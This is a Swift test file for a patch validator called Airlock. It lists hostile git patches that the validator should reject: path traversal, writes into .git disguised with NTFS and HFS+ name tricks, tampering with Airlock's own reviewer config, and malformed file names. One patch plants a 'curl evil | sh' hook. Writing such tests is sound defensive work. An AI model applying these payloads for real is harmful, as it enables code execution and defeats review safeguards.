import Testing
@testable import AirlockCore

// Hostile patches about where a patch writes: outside the workspace, into `.git` or
// Airlock's state, or under names that are not names.
extension HostilePatchTests {
    static let traversal: [HostilePatch] = [
        HostilePatch("modify through ..", """
            diff --git a/../outside/secret.txt b/../outside/secret.txt
            --- a/../outside/secret.txt
            +++ b/../outside/secret.txt
            @@ -1 +1 @@
            -secret
            +pwned

            """, "`..` component"),
        HostilePatch("create via a/../../x", """
            --- /dev/null
            +++ b/src/../../outside/new.txt
            @@ -0,0 +1 @@
            +pwned

            """, "`..` component"),
        HostilePatch("rename to ..", """
            diff --git a/src/a.c b/../outside/a.c
            similarity index 100%
            rename from src/a.c
            rename to ../outside/a.c

            """, "`..` component"),
        HostilePatch("copy to ..", """
            diff --git a/src/a.c b/../outside/a.c
            similarity index 100%
            copy from src/a.c
            copy to ../outside/a.c

            """, "`..` component"),
        HostilePatch("rename to an absolute path", """
            diff --git a/src/a.c b/src/a.c
            similarity index 100%
            rename from src/a.c
            rename to @OUTSIDE@/a.c

            """, "absolute path"),
        HostilePatch("copy to an absolute path", """
            diff --git a/README.md b/README.md
            similarity index 100%
            copy from README.md
            copy to @OUTSIDE@/copied.md

            """, "absolute path"),
        HostilePatch("rename to a drive letter", """
            diff --git a/src/a.c b/src/a.c
            similarity index 100%
            rename from src/a.c
            rename to C:/Windows/a.c

            """, "drive-letter"),
        HostilePatch("copy to a UNC path", """
            diff --git a/src/a.c b/src/a.c
            similarity index 100%
            copy from src/a.c
            copy to //server/share/a.c

            """, "absolute path"),
    ]

    static let gitDirectory: [HostilePatch] = [
        HostilePatch(".git/config", """
            diff --git a/.git/config b/.git/config
            --- a/.git/config
            +++ b/.git/config
            @@ -1 +1,2 @@
             [core]
            +\thooksPath = /tmp/evil

            """, "git's own directory `.git`"),
        HostilePatch(".GIT/hooks in upper case", """
            diff --git a/.GIT/hooks/pre-commit b/.GIT/hooks/pre-commit
            new file mode 100755
            --- /dev/null
            +++ b/.GIT/hooks/pre-commit
            @@ -0,0 +1 @@
            +curl evil | sh

            """, "git's own directory `.git`"),
        HostilePatch("nested .git", """
            --- /dev/null
            +++ b/sub/.git/hooks/post-checkout
            @@ -0,0 +1 @@
            +x

            """, "git's own directory `.git`"),
        HostilePatch("NTFS short name git~1", """
            --- /dev/null
            +++ b/git~1/config
            @@ -0,0 +1 @@
            +x

            """, "8.3 short name of `.git`"),
        HostilePatch("NTFS trailing dot .git.", """
            --- /dev/null
            +++ b/.git./config
            @@ -0,0 +1 @@
            +x

            """, "NTFS"),
        HostilePatch("NTFS trailing space .git ", """
            diff --git a/README.md b/README.md
            similarity index 100%
            copy from README.md
            copy to .git /config

            """, "NTFS"),
        HostilePatch("NTFS stream .git::$INDEX_ALLOCATION", """
            --- /dev/null
            +++ b/.git::$INDEX_ALLOCATION/config
            @@ -0,0 +1 @@
            +x

            """, "NTFS"),
        HostilePatch("HFS+ .git with U+200C", #"""
            --- /dev/null
            +++ "b/.g\342\200\214it/config"
            @@ -0,0 +1 @@
            +x

            """#, "HFS+"),
        HostilePatch("HFS+ .git with U+FEFF", #"""
            --- /dev/null
            +++ "b/\357\273\277.git/hooks/pre-commit"
            @@ -0,0 +1 @@
            +x

            """#, "HFS+"),
        HostilePatch("copy onto a git hook", """
            diff --git a/script.sh b/script.sh
            similarity index 100%
            copy from script.sh
            copy to .git/hooks/pre-commit

            """, "`.git`"),
    ]

    static let airlockState: [HostilePatch] = [
        HostilePatch(".airlock/config.toml", """
            --- /dev/null
            +++ b/.airlock/config.toml
            @@ -0,0 +1 @@
            +reviewers = ["agent"]

            """, "Airlock's own state"),
        HostilePatch(".airlock-journal", """
            --- /dev/null
            +++ b/.airlock-journal/transaction.json
            @@ -0,0 +1 @@
            +{}

            """, "Airlock's own state"),
        HostilePatch("rename into .airlock", """
            diff --git a/src/a.c b/src/a.c
            similarity index 100%
            rename from src/a.c
            rename to .Airlock/store.sqlite

            """, "Airlock's own state"),
        HostilePatch("a staged file's name", """
            --- /dev/null
            +++ b/src/.airlock-stage-0000000000000000-1
            @@ -0,0 +1 @@
            +x

            """, "reserved for Airlock's staged files"),
    ]

    static let names: [HostilePatch] = [
        HostilePatch("NUL in a name", #"""
            --- /dev/null
            +++ "b/x\000y"
            @@ -0,0 +1 @@
            +x

            """#, "contains a NUL byte"),
        HostilePatch("newline in a name", #"""
            --- /dev/null
            +++ "b/x\ny"
            @@ -0,0 +1 @@
            +x

            """#, "contains a newline"),
        HostilePatch("backslash in a name", #"""
            --- /dev/null
            +++ "b/x\\..\\y"
            @@ -0,0 +1 @@
            +x

            """#, "contains a backslash"),
        HostilePatch("escape sequence in a name", #"""
            --- /dev/null
            +++ "b/x\033]0;owned\007y"
            @@ -0,0 +1 @@
            +x

            """#, "contains a control character"),
        HostilePatch("overlong name", """
            --- /dev/null
            +++ b/\(String(repeating: "n", count: 300))
            @@ -0,0 +1 @@
            +x

            """, "longer than a file name may be"),
    ]
}
